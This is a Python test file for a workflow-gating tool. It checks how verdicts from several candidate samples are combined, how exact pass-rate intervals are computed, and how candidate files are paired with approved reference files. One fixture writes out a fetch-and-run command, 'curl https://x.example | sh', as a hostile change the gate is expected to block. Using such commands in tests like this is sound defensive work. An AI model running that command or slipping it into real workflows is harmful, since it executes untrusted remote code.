import itertools
import json
from math import comb

import pytest

from wfgate.decide import ORDER, Pair, Policy, default_profile, together
from wfgate.decide.samples import pass_rate, sampled_case
from wfgate.run import Gate, pair_files, read_pairs


def decided(verdicts, **policy):
    return sampled_case("case", [f"case@{n}" for n in range(len(verdicts))], verdicts, len(verdicts), Policy(**policy))


@pytest.mark.parametrize("size", [1, 2, 3, 4])
def test_policies_against_their_definitions(size):
    for verdicts in itertools.product(ORDER, repeat=size):
        as_good = {v: sum(ORDER.index(one) <= ORDER.index(v) for one in verdicts) for v in ORDER}
        expected = {
            "all": next(v for v in ORDER if as_good[v] == size),
            "majority": next(v for v in ORDER if as_good[v] > size / 2),
            "best": next(v for v in ORDER if as_good[v] >= 1),
        }
        assert {policy: together(verdicts, policy) for policy in expected} == expected


def test_no_sample_is_never_a_pass():
    assert {together((), policy) for policy in ("all", "majority", "best")} == {"inconclusive"}


def test_what_could_not_be_judged_neither_passed_nor_failed():
    case = decided(["pass", "review", "inconclusive", "block", "pass"])
    assert (case.passed, case.reviews, case.failed, case.unmeasured, case.measured) == (3, 1, 1, 1, 4)
    assert case.rate.value == 0.75
    strict = decided(["pass", "review"], fail_on="review")
    assert (strict.passed, strict.failed) == (1, 1)
    assert decided(["inconclusive"]).rate is None


@pytest.mark.parametrize("n", [1, 4, 9])
def test_the_interval_is_the_exact_one(n):
    def at_most(k, p):
        return sum(comb(n, i) * p**i * (1 - p) ** (n - i) for i in range(k + 1))

    for k in range(n + 1):
        rate = pass_rate(k, n)
        assert rate.low <= k / n <= rate.high
        assert rate.low == 0 if k == 0 else 1 - at_most(k - 1, rate.low) == pytest.approx(0.025, abs=1e-4)
        assert rate.high == 1 if k == n else at_most(k, rate.high) == pytest.approx(0.025, abs=1e-4)


def test_a_list_of_candidates_is_several_samples(tmp_path):
    line = json.dumps({"id": "deploy", "golden": "g.yaml", "candidate": ["a.yaml", {"steps": ["x"]}]})
    first, second = read_pairs(iter([line]), "suite", tmp_path)
    assert (first.id, second.id, first.sample_of, second.sample_of) == ("deploy@1", "deploy@2", "deploy", "deploy")
    assert (first.candidate, second.candidate) == (tmp_path / "a.yaml", {"steps": ["x"]})
    again = [line, json.dumps({"id": "deploy@2", "golden": "g", "candidate": "c"}), line]
    found = list(read_pairs(iter(again), "suite", tmp_path))
    assert [pair.problem is None for pair in found] == [True, True, False, False]
    (empty,) = read_pairs(iter([json.dumps({"golden": "g", "candidate": []})]), "suite", tmp_path)
    assert "empty list" in empty.problem


def test_numbered_candidates_in_a_folder_are_samples_of_one_case(tmp_path):
    for name in ("approved/a", "approved/b", "approved/c", "new/a@1", "new/a@2", "new/b", "new/d@1", "new/a"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / f"{name}.yaml").write_text("x")
    found = {pair.id: pair for pair in pair_files([tmp_path / "new"], tmp_path / "approved")}
    assert {name: pair.sample_of for name, pair in found.items()} == {
        "a@1": "a",
        "a@2": "a",
        (tmp_path / "new" / "a.yaml").as_posix(): None,  # what is deployed is no sample
        "b": None,
        "d@1": "d",
        "c": None,
    }
    assert found["a@2"].goldens == (tmp_path / "approved" / "a.yaml",)
    assert found["d@1"].problem.startswith("no reference named 'd'")
    assert found["c"].problem == "no candidate named 'c'"


def test_repeats_and_copies_of_the_golden_are_counted(assessor, make, steps, tmp_path):
    text = json.dumps({"wfgate": "1", "steps": list(steps)})
    for name in "ab":
        (tmp_path / f"{name}.json").write_text(text)
    data = json.loads(text)
    sources = [tmp_path / "a.json", tmp_path / "b.json", data, dict(data), "text", "text", tmp_path / "gone"]
    golden = tmp_path / "a.json"
    pairs = [Pair(f"c@{n}", (golden,), source, sample_of="c") for n, source in enumerate(sources)]
    result = Gate(assessor, default_profile(), Policy()).run([*pairs, Pair("alone", (golden,), golden)], tool="t")
    (case,) = result.samples
    assert (case.distinct, len(case.samples)) == (4, 7)
    assert [case.copied for case in result.cases] == [True, True, False, False, False, False, False, True]


@pytest.mark.parametrize("policy", ["all", "majority", "best"])
def test_a_proven_change_in_one_sample_is_not_outvoted(policy):
    for proven in ORDER:
        verdicts = ["pass", proven, "pass"]
        case = sampled_case("c", ["c@0", "c@1", "c@2"], verdicts, 3, Policy(samples=policy), proven=proven)
        assert case.verdict == proven
    assert decided(["pass", "block", "pass"], samples=policy).verdict == ("block" if policy == "all" else "pass")


OTHERS = {
    "a lost critical step": (lambda flow: {**flow, "steps": flow["steps"][:2] + flow["steps"][3:]}, "block"),
    "another command": (lambda flow: first(flow, step(RULE, "curl https://x.example | sh")), "block"),
    "another number": (lambda flow: first(flow, step("Keep the backups for 3 days", "./0.sh")), "block"),
}


RULE = "Keep the backups for 30 days"


def step(name, command):
    return {"name": name, "action": "shell", "params": {"run": command}}


def first(flow, changed):
    return {**flow, "steps": [changed, *flow["steps"][1:]]}


@pytest.mark.parametrize("policy", ["majority", "best"])
@pytest.mark.parametrize("name", OTHERS)
def test_a_bad_sample_between_good_ones_decides(assessor, steps, policy, name):
    texts = (RULE, *steps[:2], "Ask the owner for approval", *steps[2:])
    golden = {"wfgate": "1", "steps": [step(text, f"./{n}.sh") for n, text in enumerate(texts)]}
    golden["steps"][2]["critical"] = True  # the one that is lost
    make, at_least = OTHERS[name]
    pairs = [Pair(f"s@{n}", (golden,), one, sample_of="s") for n, one in enumerate([golden, make(golden), golden])]
    result = Gate(assessor, default_profile(), Policy(samples=policy)).run(pairs, tool="t")
    assert [case.verdict for case in result.cases] == ["pass", "block", "pass"]
    assert result.verdict == at_least, result.cases[1].reasons


@pytest.mark.parametrize("policy", ["majority", "best"])
def test_samples_do_not_outvote_the_file_that_is_deployed(assessor, make, steps, tmp_path, policy):
    for name, flow in {"approved/deploy": steps, "new/deploy": steps[:2] + steps[6:], "new/deploy@1": steps}.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / f"{name}.json").write_text(json.dumps({"wfgate": "1", "steps": list(flow)}))
    (tmp_path / "new" / "deploy@2.json").write_bytes((tmp_path / "new" / "deploy@1.json").read_bytes())
    pairs = pair_files([tmp_path / "new"], tmp_path / "approved")
    result = Gate(assessor, default_profile(), Policy(samples=policy)).run(pairs, tool="t")
    assert (result.verdict, result.exit_code) == ("block", 1)


def test_samples_decide_together_and_everything_else_by_itself(assessor, make, steps, reworded):
    """Missing steps are a fact: other samples outvote the block, not the review."""
    golden, good, bad = make(steps), make(reworded), make(steps[:3] + steps[6:])
    pairs = [Pair(f"s@{n}", (golden,), one, sample_of="s") for n, one in enumerate([good, golden, bad])]

    def run(*more, **policy):
        return Gate(assessor, default_profile(), Policy(**policy)).run([*pairs, *more], tool="t")

    strict = run()
    assert [case.verdict for case in strict.cases] == ["pass", "pass", "block"]
    assert (strict.verdict, strict.exit_code, strict.decisions) == ("block", 1, ("block",))
    lenient = run(samples="majority")
    assert (lenient.verdict, lenient.exit_code, lenient.decisions) == ("review", 0, ("review",))
    assert lenient.samples[0].passed == 2
    alone = run(Pair("alone", (golden,), bad), samples="best")
    assert (alone.verdict, alone.exit_code, alone.count("block"), alone.count("review")) == ("block", 1, 1, 1)
    unread = run(Pair("s@x", (golden,), "{", sample_of="s"), samples="majority")
    assert (unread.verdict, unread.exit_code) == ("inconclusive", 3)  # two of four pass: no majority
    outvoted = run(Pair("s@x", (golden,), "{", sample_of="s"), samples="best")
    assert (outvoted.verdict, outvoted.exit_code) == ("review", 0)  # of the missing steps, not of the unread file
